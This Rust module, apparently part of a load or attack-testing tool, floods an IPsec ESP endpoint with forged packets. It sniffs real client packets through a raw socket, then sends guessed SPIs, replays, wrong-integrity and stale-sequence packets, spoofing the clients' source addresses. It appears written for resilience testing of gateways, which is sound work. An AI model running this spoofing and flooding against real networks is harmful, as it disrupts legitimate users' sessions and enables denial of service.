//! Forged ESP (RFC 4303): indices that nobody has; indices of phones, in their addresses, with a
//! wrong code; packets of phones again; numbers that are long over.
//!
//! What phones send is heard by a raw socket at the target's address, which the loopback lets
//! anybody have: whoever stands on the path of a phone hears as much. Until something was heard,
//! all indices are guessed.

use crate::sockets::{Numbers, Pace, SocketAttack};
use anyhow::Context;
use driver::{DatagramSocket, ReceiveBatch, SEND_MESSAGES_MAX, SendBatch, SocketOptions};
use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

/// The number of ESP among the protocols of IP.
const PROTOCOL: u8 = 50;
/// Octets of index and number.
const HEAD: usize = 8;
/// What forged packets end with: they are not taken for those of phones.
const MARK: [u8; 8] = *b"forged!!";
/// Octets of a forged packet whose index is guessed.
const OCTETS: usize = 400;
/// Packets of phones that are kept, and addresses that are sent from.
const HEARD_MAX: usize = 256;
const SOCKETS_MAX: usize = 64;
/// How often phones are listened to.
const LISTEN: Duration = Duration::from_millis(20);

/// What is done to packets.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// The index is guessed.
    Guessed,
    /// A phone's index, a number that may be next, a wrong code.
    WrongCode,
    /// A phone's packet again.
    Replay,
    /// A phone's index, and a number that is long over.
    OldNumber,
}

const KINDS: [Kind; 4] = [Kind::Guessed, Kind::WrongCode, Kind::Replay, Kind::OldNumber];

/// Whether it is a packet of a phone: this attack has made none like it.
fn is_of_phone(packet: &[u8]) -> bool {
    packet.len() > HEAD + MARK.len() && !packet.ends_with(&MARK)
}

/// Makes a forged packet of a phone's; `ahead` is how far its number is ahead.
fn forge(kind: Kind, heard: &[u8], ahead: u32, out: &mut Vec<u8>) {
    out.clear();
    out.extend_from_slice(heard);
    let number = heard.get(4..HEAD).and_then(|it| it.try_into().ok()).map(u32::from_be_bytes);
    let number = number.unwrap_or_default();
    match kind {
        Kind::Guessed | Kind::Replay => return,
        Kind::WrongCode => {
            out[4..HEAD].copy_from_slice(&number.wrapping_add(1 + ahead % 32).to_be_bytes());
        }
        // With one the packet is before every window that has moved on.
        Kind::OldNumber => out[4..HEAD].copy_from_slice(&1u32.to_be_bytes()),
    }
    let at = out.len() - MARK.len();
    out[at..].copy_from_slice(&MARK);
}

/// A packet whose index is guessed.
fn guess(random: &mut Numbers, out: &mut Vec<u8>) {
    out.clear();
    while out.len() < OCTETS - MARK.len() {
        out.extend_from_slice(&random.next().to_be_bytes());
    }
    out.extend_from_slice(&MARK);
}

/// What phones have sent.
struct Ear {
    socket: DatagramSocket,
    batch: ReceiveBatch,
    heard: Vec<(IpAddr, Vec<u8>)>,
    next: usize,
    listened: Instant,
}

impl Ear {
    fn new(target: IpAddr) -> anyhow::Result<Self> {
        let options = SocketOptions::default();
        let socket = DatagramSocket::raw(target, PROTOCOL, &options)
            .with_context(|| format!("a raw socket at {target} (CAP_NET_RAW)"))?;
        let (batch, heard) = (ReceiveBatch::new(), Vec::new());
        Ok(Self { socket, batch, heard, next: 0, listened: Instant::now() })
    }

    fn listen(&mut self) {
        if self.listened.elapsed() < LISTEN {
            return;
        }
        self.listened = Instant::now();
        if self.batch.receive(&self.socket).is_err() {
            return;
        }
        for packet in self.batch.datagrams().filter(|it| is_of_phone(it.bytes)) {
            let known = |(from, it): &(IpAddr, Vec<u8>)| {
                *from == packet.remote.ip() && it[..HEAD] == packet.bytes[..HEAD]
            };
            if self.heard.iter().any(known) {
                continue; // it is one that was sent again from here
            }
            let one = (packet.remote.ip(), packet.bytes.to_vec());
            if self.heard.len() < HEARD_MAX {
                self.heard.push(one);
            } else {
                self.heard[self.next] = one;
                self.next = (self.next + 1) % HEARD_MAX;
            }
        }
    }
}

/// Raw sockets by the address that they send from.
struct Mouths(Vec<(IpAddr, DatagramSocket)>);

impl Mouths {
    fn of(&mut self, source: IpAddr) -> anyhow::Result<Option<&DatagramSocket>> {
        if let Some(at) = self.0.iter().position(|(known, _)| *known == source) {
            return Ok(Some(&self.0[at].1));
        }
        if self.0.len() >= SOCKETS_MAX {
            return Ok(None);
        }
        let socket = DatagramSocket::raw(source, PROTOCOL, &SocketOptions::default())
            .with_context(|| format!("a raw socket at {source} (CAP_NET_RAW)"))?;
        self.0.push((source, socket));
        Ok(self.0.last().map(|(_, socket)| socket))
    }
}

pub(crate) fn run(attack: &SocketAttack, pace: &mut Pace) -> anyhow::Result<()> {
    let target = SocketAddr::new(IpAddr::V4(*attack.target.ip()), 0);
    let (mut ear, mut mouths) = (Ear::new(target.ip())?, Mouths(Vec::new()));
    let mut random = Numbers::new(0xe5b);
    let mut packets: Vec<Vec<u8>> = vec![Vec::new(); SEND_MESSAGES_MAX];
    let (mut turn, mut batch) = (0usize, SendBatch::new());
    while let Some(mut due) = pace.due() {
        ear.listen();
        while due > 0 {
            let count = usize::try_from(due)?.min(SEND_MESSAGES_MAX);
            due -= count as u64;
            turn += 1;
            let heard = match ear.heard.len() {
                0 => None,
                length => Some(&ear.heard[turn / KINDS.len() % length]),
            };
            let (kind, heard) = (KINDS[turn % KINDS.len()], heard);
            let source = match (kind, heard) {
                (Kind::Guessed, _) | (_, None) => {
                    packets[..count].iter_mut().for_each(|it| guess(&mut random, it));
                    IpAddr::V4(attack.sources.pick(random.next()))
                }
                (kind, Some((source, bytes))) => {
                    for (ahead, packet) in (0u32..).zip(&mut packets[..count]) {
                        forge(kind, bytes, ahead, packet);
                    }
                    *source
                }
            };
            let Some(socket) = mouths.of(source)? else { continue };
            send(socket, &mut batch, target, &packets[..count], pace);
        }
    }
    Ok(())
}

/// What the kernel does not take is lost.
fn send(
    socket: &DatagramSocket,
    batch: &mut SendBatch,
    target: SocketAddr,
    packets: &[Vec<u8>],
    pace: &mut Pace,
) {
    let mut filling = batch.fill();
    for packet in packets {
        filling.push(&target, None, 0, std::iter::once(packet.as_slice()));
    }
    let taken = filling.send(socket, 0).unwrap_or_default();
    packets[..taken.min(packets.len())].iter().for_each(|packet| pace.sent(packet.len()));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn forged_packets_are_those_of_a_phone_but_for_what_is_wrong_with_them() {
        let mut heard = vec![0, 0, 7, 7, 0, 0, 0, 90];
        heard.extend([0xaa; 40]);
        let mut out = Vec::new();
        forge(Kind::Replay, &heard, 5, &mut out);
        assert_eq!(out, heard);
        forge(Kind::WrongCode, &heard, 5, &mut out);
        assert_eq!((&out[..4], &out[4..8], out.len()), (&heard[..4], &[0, 0, 0, 96][..], 48));
        assert!(!is_of_phone(&out) && is_of_phone(&heard));
        forge(Kind::OldNumber, &heard, 5, &mut out);
        assert_eq!((&out[..4], &out[4..8]), (&heard[..4], &[0, 0, 0, 1][..]));
        guess(&mut Numbers::new(1), &mut out);
        assert!(out.len() == OCTETS && !is_of_phone(&out));
    }
}
